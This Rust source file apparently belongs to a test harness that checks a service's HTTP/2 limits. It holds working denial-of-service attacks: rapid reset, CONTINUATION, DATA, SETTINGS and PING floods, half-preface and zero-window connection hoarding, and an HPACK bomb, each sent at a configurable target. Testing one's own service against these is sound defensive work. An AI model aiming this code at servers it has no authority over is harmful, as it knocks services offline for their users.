//! What attackers do over HTTP/2, where it is on (H03, H08).

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::attacks::{Attack, Target};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame, get, hello, literal,
};

const MOMENT: Duration = Duration::from_millis(100);
/// So much at a time, and then a pause: the machine is the attackers' too.
const BURST: u32 = 100;
const BREATH: Duration = Duration::from_millis(10);

pub(crate) const HTTP2: &[Attack] = &[
    Attack { name: "h2: half a preface", attackers: 5000, pause: MOMENT, round: |t| Box::pin(half_preface(t)) },
    Attack { name: "h2: rapid reset", attackers: 20, pause: MOMENT, round: |t| Box::pin(rapid_reset(t)) },
    Attack { name: "h2: CONTINUATION flood", attackers: 10, pause: MOMENT, round: |t| Box::pin(continuations(t)) },
    Attack { name: "h2: empty DATA flood", attackers: 10, pause: MOMENT, round: |t| Box::pin(empty_data(t)) },
    Attack { name: "h2: SETTINGS flood", attackers: 10, pause: MOMENT, round: |t| Box::pin(settings(t)) },
    Attack { name: "h2: PING flood", attackers: 10, pause: MOMENT, round: |t| Box::pin(pings(t)) },
    Attack { name: "h2: window of nothing", attackers: 500, pause: MOMENT, round: |t| Box::pin(no_window(t)) },
    Attack { name: "h2: HPACK bomb", attackers: 10, pause: MOMENT, round: |t| Box::pin(hpack_bomb(t)) },
];

async fn connect(target: &Target, bytes: &[u8]) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(target.address).await.ok()?;
    stream.write_all(bytes).await.ok()?;
    Some(stream)
}

/// Writes the same again and again until it is cut off, reading what comes, so that only the signer's limits end it.
async fn flood(stream: TcpStream, bytes: &[u8]) {
    let (mut reader, mut writer) = stream.into_split();
    let read = async {
        let mut buffer = [0; 4096];
        while !matches!(reader.read(&mut buffer).await, Ok(0) | Err(_)) {}
    };
    let write = async {
        while writer.write_all(bytes).await.is_ok() {
            sleep(BREATH).await;
        }
    };
    tokio::select! {
        () = read => {}
        () = write => {}
    }
}

async fn half_preface(target: Target) {
    let Some(mut stream) = connect(&target, b"PRI * HTTP/2.0\r\n").await else { return };
    let _ = stream.read(&mut [0; 64]).await;
}

async fn rapid_reset(target: Target) {
    let Some(mut stream) = connect(&target, &hello(&[])).await else { return };
    let mut id = 1;
    loop {
        let mut burst = Vec::new();
        for _ in 0..BURST {
            burst.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &get("/livez", &[])));
            burst.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            id += 2;
        }
        if stream.write_all(&burst).await.is_err() {
            return;
        }
        sleep(BREATH).await;
    }
}

async fn continuations(target: Target) {
    let head = frame(HEADERS, END_STREAM, 1, &get("/livez", &[]));
    let Some(stream) = connect(&target, &[hello(&[]), head].concat()).await else { return };
    flood(stream, &frame(CONTINUATION, 0, 1, &literal("x", &"y".repeat(100)).repeat(100))).await;
}

async fn empty_data(target: Target) {
    let mut block = vec![0x83, 0x86];
    block.extend([literal(":path", "/upload-url"), literal(":authority", "x")].concat());
    let head = frame(HEADERS, END_HEADERS, 1, &block);
    let Some(stream) = connect(&target, &[hello(&[]), head].concat()).await else { return };
    flood(stream, &frame(DATA, 0, 1, &[]).repeat(100)).await;
}

async fn settings(target: Target) {
    let Some(stream) = connect(&target, &hello(&[])).await else { return };
    flood(stream, &frame(SETTINGS, 0, 0, &[]).repeat(100)).await;
}

async fn pings(target: Target) {
    let Some(stream) = connect(&target, &hello(&[])).await else { return };
    flood(stream, &frame(PING, 0, 0, &[7; 8]).repeat(100)).await;
}

/// Asks for all that one connection may, and lets no answer through (`SETTINGS_INITIAL_WINDOW_SIZE` is 4).
async fn no_window(target: Target) {
    let asked = (1..128).step_by(2).map(|id| frame(HEADERS, END_STREAM | END_HEADERS, id, &get("/livez", &[])));
    let Some(mut stream) = connect(&target, &[hello(&[(4, 0)]), asked.flatten().collect()].concat()).await else {
        return;
    };
    let mut buffer = [0; 4096];
    while !matches!(stream.read(&mut buffer).await, Ok(0) | Err(_)) {}
}

/// A large header put into the table once, and named thousands of times with a byte each (RFC 7541 section 7.3).
async fn hpack_bomb(target: Target) {
    let value = "b".repeat(120);
    let Some(mut stream) = connect(&target, &hello(&[])).await else { return };
    for id in (1..200).step_by(2) {
        let mut block = get("/livez", &[]);
        // With indexing (section 6.2.1), and then the first entry after the static table, 62.
        let mut indexed = literal("a", &value);
        indexed[0] = 0x40;
        block.extend(indexed);
        block.extend([0x80 | 0x3e; 8000]);
        if stream.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, id, &block)).await.is_err() {
            return;
        }
        sleep(BREATH).await;
    }
}
